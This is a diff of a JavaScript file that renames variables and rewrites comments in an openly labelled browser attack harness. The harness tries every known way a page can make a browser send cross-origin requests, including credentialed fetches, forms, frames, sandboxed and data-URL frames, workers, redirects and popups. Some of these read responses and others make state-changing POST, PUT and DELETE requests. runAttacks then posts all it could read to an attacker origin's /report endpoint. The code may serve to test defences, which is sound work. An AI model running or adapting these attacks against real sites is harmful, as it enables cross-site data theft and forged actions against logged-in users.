@@ -1,22 +1,22 @@
-// Every way known to us in which a page makes a browser send a request. An
-// attack gets the URL to reach, and resolves to what it could read of the
-// answer, or to nothing. Those that read are aimed at what a GET could learn or
-// do; those that write use another method, or mean to change something.
+// All known ways for a page to make a browser send a request. An attack gets a URL
+// and resolves to the text that it could read of the answer, or to undefined. The
+// reading attacks use GET or HEAD. The writing attacks use another method or try to
+// change something.
 
-let home // the attacker's origin
-const inserted = document.body.appendChild(document.createElement('div'))
+let attackerOrigin
+const container = document.body.appendChild(document.createElement('div'))
 
-const patience = 1000 // milliseconds, with what may never say how it ended
+const timeout = 1000 // milliseconds, for attacks that may never report an end
 
-// within makes a promise to which resolve need not be called.
+// within returns a promise that resolves after the timeout even when begin does not resolve it.
 function within(begin) {
   return new Promise(resolve => {
-    setTimeout(resolve, patience)
+    setTimeout(resolve, timeout)
     begin(resolve)
   })
 }
 
-// element inserts one, and resolves when it has loaded or failed to.
+// element inserts an element, and resolves when it has loaded or failed.
 function element(name, properties, read = () => 'it loaded') {
   return within(resolve => {
     const e = document.createElement(name)
@@ -25,11 +25,11 @@ function element(name, properties, read = () => 'it loaded') {
     for (const [key, value] of Object.entries(properties)) {
       key in e && typeof value === 'object' ? Object.assign(e[key], value) : e.setAttribute(key, value)
     }
-    inserted.append(e)
+    container.append(e)
   })
 }
 
-// textOf reads a frame as far as the browser lets it.
+// textOf returns a frame's text if the browser allows it.
 function textOf(frame) {
   try {
     return frame.contentDocument?.documentElement.textContent
@@ -40,7 +40,7 @@ const frame = properties => element('iframe', properties, textOf)
 const link = properties => element('link', properties)
 
 function style(css) {
-  inserted.append(Object.assign(document.createElement('style'), {textContent: css}))
+  container.append(Object.assign(document.createElement('style'), {textContent: css}))
 }
 
 async function read(url, options) {
@@ -60,32 +60,32 @@ function request(method, url, header = {}, prepare = () => {}) {
   })
 }
 
-// form submits one into a new frame, or into a window.
+// form submits a form into a new frame, or into target.
 function form(url, properties, target) {
   return within(resolve => {
     const f = Object.assign(document.createElement('form'), {action: url, ...properties})
     f.append(Object.assign(document.createElement('input'), {name: 'x', value: '{"y":"', type: 'hidden'}))
-    for (const [name, value] of new URL(url).searchParams) { // a GET replaces the query
+    for (const [name, value] of new URL(url).searchParams) { // a GET form replaces the query
       if (f.method === 'get') f.append(Object.assign(document.createElement('input'), {name, value, type: 'hidden'}))
     }
     const frame = document.createElement('iframe')
     f.target = target ?? (frame.name = 'form' + Math.random())
-    inserted.append(frame, f)
+    container.append(frame, f)
     frame.onload = () => resolve(textOf(frame))
     f.submit()
     if (target) resolve()
   })
 }
 
-// click follows a link.
+// click inserts a link and clicks it.
 function click(properties) {
   const a = document.createElement('a')
   for (const [name, value] of Object.entries(properties)) a.setAttribute(name, value)
-  inserted.append(a)
+  container.append(a)
   a.click()
 }
 
-// worker runs a script, which posts what it could read.
+// worker runs a script that posts what it could read.
 function worker(script) {
   return new Promise(resolve => {
     const w = new Worker(URL.createObjectURL(new Blob([script], {type: 'text/javascript'})))
@@ -94,27 +94,31 @@ function worker(script) {
   })
 }
 
-// nowhere runs a script, which posts what it could read, in a frame whose
-// origin is null.
-function nowhere(script, address) {
-  const page = `<script>const post = x => parent.postMessage({${JSON.stringify(address)}: x ?? ''}, '*')\n${script}</` + 'script>'
+// opaqueOrigin runs a script that posts what it could read, in a frame with an
+// opaque origin ("Origin: null").
+function opaqueOrigin(script, address) {
+  const post = `const post = x => parent.postMessage({${JSON.stringify(address)}: x ?? ''}, '*')`
+  const page = `<script>${post}\n${script}</` + 'script>'
   return within(resolve => {
     addEventListener('message', message => {
       if (address in message.data) resolve(message.data[address])
     })
-    frame(address.startsWith('data') ? {src: 'data:text/html,' + encodeURIComponent(page)} : {sandbox: 'allow-scripts allow-forms', srcdoc: page})
+    frame(address.startsWith('data')
+      ? {src: 'data:text/html,' + encodeURIComponent(page)}
+      : {sandbox: 'allow-scripts allow-forms', srcdoc: page})
   })
 }
 
-// speculate asks the browser to load a page before a person wants it.
+// speculate asks the browser to load a page in advance (speculation rules).
 function speculate(action, rule) {
-  inserted.append(Object.assign(document.createElement('script'),
+  container.append(Object.assign(document.createElement('script'),
     {type: 'speculationrules', textContent: JSON.stringify({[action]: [{source: 'list', ...rule}]})}))
 }
 
 const quoted = JSON.stringify
-const fetching = (url, options) => `fetch(${quoted(url)}, ${quoted(options)}).then(r => r.text()).then(post, () => post())`
-const by = (path, url, more = '') => `${home}${path}?to=${encodeURIComponent(url)}${more}`
+const fetching = (url, options) =>
+  `fetch(${quoted(url)}, ${quoted(options)}).then(r => r.text()).then(post, () => post())`
+const by = (path, url, more = '') => `${attackerOrigin}${path}?to=${encodeURIComponent(url)}${more}`
 const redirected = (status, url) => by('/redirect', url, `&status=${status}`)
 
 const reading = {
@@ -122,14 +126,18 @@ const reading = {
   imgNoReferrer: src => element('img', {src, referrerpolicy: 'no-referrer'}),
   imgCrossOrigin: src => element('img', {src, crossorigin: 'use-credentials'}),
   inputImage: src => element('input', {type: 'image', src}),
-  svgImage: url => { inserted.insertAdjacentHTML('beforeend', `<svg><image href="${url}"/></svg>`) },
+  svgImage: url => { container.insertAdjacentHTML('beforeend', `<svg><image href="${url}"/></svg>`) },
   script: src => element('script', {src}),
   scriptModule: src => element('script', {type: 'module', src}),
   importModule: url => import(url).then(() => 'it loaded', () => {}),
   stylesheet: href => link({rel: 'stylesheet', href}),
   styleImport: url => style(`@import "${url}";`),
-  styleBackground: url => element('p', {style: {background: `url("${url}")`, height: '9px'}, onerror: null, onload: null}),
-  styleFont: url => { style(`@font-face {font-family: f; src: url("${url}")}`); inserted.insertAdjacentHTML('beforeend', '<p style="font-family: f">x') },
+  styleBackground: url =>
+    element('p', {style: {background: `url("${url}")`, height: '9px'}, onerror: null, onload: null}),
+  styleFont: url => {
+    style(`@font-face {font-family: f; src: url("${url}")}`)
+    container.insertAdjacentHTML('beforeend', '<p style="font-family: f">x')
+  },
   iframe: src => frame({src}),
   iframeSandboxed: src => frame({src, sandbox: ''}),
   iframeNoReferrer: src => frame({src, referrerpolicy: 'no-referrer'}),
@@ -176,11 +184,11 @@ const reading = {
   redirectFetch: url => read(redirected(302, url)),
   redirectFetchNoCors: url => read(redirected(302, url), {mode: 'no-cors'}),
   redirectIframe: url => frame({src: redirected(301, url)}),
-  nullFetch: url => nowhere(fetching(url, {}), 'sandboxed cors ' + url),
-  nullFetchNoCors: url => nowhere(fetching(url, {mode: 'no-cors'}), 'sandboxed no-cors ' + url),
-  nullNavigation: url => nowhere(`location = ${quoted(url)}`, 'sandboxed location ' + url),
-  dataFetch: url => nowhere(fetching(url, {}), 'data cors ' + url),
-  dataFetchNoCors: url => nowhere(fetching(url, {mode: 'no-cors'}), 'data no-cors ' + url),
+  nullFetch: url => opaqueOrigin(fetching(url, {}), 'sandboxed cors ' + url),
+  nullFetchNoCors: url => opaqueOrigin(fetching(url, {mode: 'no-cors'}), 'sandboxed no-cors ' + url),
+  nullNavigation: url => opaqueOrigin(`location = ${quoted(url)}`, 'sandboxed location ' + url),
+  dataFetch: url => opaqueOrigin(fetching(url, {}), 'data cors ' + url),
+  dataFetchNoCors: url => opaqueOrigin(fetching(url, {mode: 'no-cors'}), 'data no-cors ' + url),
 }
 
 const writing = {
@@ -190,7 +198,8 @@ const writing = {
   fetchPostNoCors: url => read(url, {method: 'POST', mode: 'no-cors', body: '{}', credentials: 'include'}),
   fetchPost: url => read(url, {method: 'POST', body: '{}'}),
   fetchPostJSON: url => read(url, {method: 'POST', body: '{}', headers: {'Content-Type': 'application/json'}}),
-  fetchPostJSONWithCredentials: url => read(url, {method: 'POST', body: '{}', headers: {'Content-Type': 'application/json'}, credentials: 'include'}),
+  fetchPostJSONWithCredentials: url => read(url,
+    {method: 'POST', body: '{}', headers: {'Content-Type': 'application/json'}, credentials: 'include'}),
   fetchPut: url => read(url, {method: 'PUT', body: '{}'}),
   fetchPatch: url => read(url, {method: 'PATCH', body: '{}'}),
   fetchDelete: url => read(url, {method: 'DELETE'}),
@@ -207,14 +216,15 @@ const writing = {
   redirectFetchPost: url => read(redirected(307, url), {method: 'POST', body: '{}'}),
   redirectFetchPostNoCors: url => read(redirected(308, url), {method: 'POST', mode: 'no-cors', body: '{}'}),
   redirectForm: url => form(redirected(307, url), {method: 'post'}),
-  nullPost: url => nowhere(fetching(url, {method: 'POST', mode: 'no-cors', body: '{}'}), 'sandboxed post ' + url),
-  nullForm: url => nowhere(`document.write('<form method=post action="${url}"><input name=x></form>'); document.forms[0].submit()`, 'sandboxed form ' + url),
-  dataPost: url => nowhere(fetching(url, {method: 'POST', body: '{}'}), 'data post ' + url),
+  nullPost: url => opaqueOrigin(fetching(url, {method: 'POST', mode: 'no-cors', body: '{}'}), 'sandboxed post ' + url),
+  nullForm: url => opaqueOrigin(`document.write('<form method=post action="${url}"><input name=x></form>')
+    document.forms[0].submit()`, 'sandboxed form ' + url),
+  dataPost: url => opaqueOrigin(fetching(url, {method: 'POST', body: '{}'}), 'data post ' + url),
   workerPost: url => worker(`const post = x => postMessage(x ?? '')\n${fetching(url, {method: 'POST', body: '{}'})}`),
 }
 
-// These hide the page, and a browser makes a hidden page wait: they come last.
-const popping = {
+// These hide the page, and a browser throttles a hidden page, so they come last.
+const popups = {
   popup: url => { open(url) },
   popupNoOpener: url => { open(url, '_blank', 'noopener,noreferrer') },
   clickPopup: href => click({href, target: '_blank'}),
@@ -222,29 +232,29 @@ const popping = {
   formPopup: url => form(url, {method: 'post'}, '_blank'),
 }
 
-// attack tries a group of attacks on a target, at the same time, and returns
-// what it could read.
+// attack runs a group of attacks on a target at the same time, and returns what
+// they could read.
 async function attack(target, group, path) {
   const found = await Promise.all(Object.entries(group).map(async ([name, run]) => {
     const url = new URL(path, target.origin)
     url.searchParams.set('target', target.name)
     url.searchParams.set('attack', name)
-    const late = new Promise(resolve => setTimeout(resolve, 30 * patience))
+    const late = new Promise(resolve => setTimeout(resolve, 30 * timeout))
     const text = await Promise.race([late, Promise.resolve().then(() => run(url.href)).catch(() => {})])
     return text && {target: target.name, attack: name, text}
   }))
   return found.filter(Boolean)
 }
 
-// campaign attacks one target after the other, and tells the attacker.
-async function campaign(targets, attacker) {
-  home = attacker
+// runAttacks attacks one target after the other, and reports to the attacker.
+async function runAttacks(targets, origin) {
+  attackerOrigin = origin
   const reads = []
   for (const target of targets) {
     const both = await Promise.all([attack(target, reading, target.read), attack(target, writing, target.write)])
     reads.push(...both.flat())
   }
-  for (const target of targets) reads.push(...await attack(target, popping, target.read))
-  const report = {page: location.hostname, attacks: [reading, writing, popping].flatMap(Object.keys), reads}
-  await fetch(home + '/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify(report)})
+  for (const target of targets) reads.push(...await attack(target, popups, target.read))
+  const report = {page: location.hostname, attacks: [reading, writing, popups].flatMap(Object.keys), reads}
+  await fetch(attackerOrigin + '/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify(report)})
 }
